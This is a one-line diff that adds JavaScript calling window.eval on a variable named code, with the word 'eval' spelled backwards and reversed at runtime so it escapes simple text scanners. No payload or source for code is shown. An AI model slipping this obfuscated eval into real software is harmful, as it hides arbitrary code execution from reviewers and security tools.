@@ -1,0 +1,1 @@
+window["lave".split("").reverse().join("")](code);
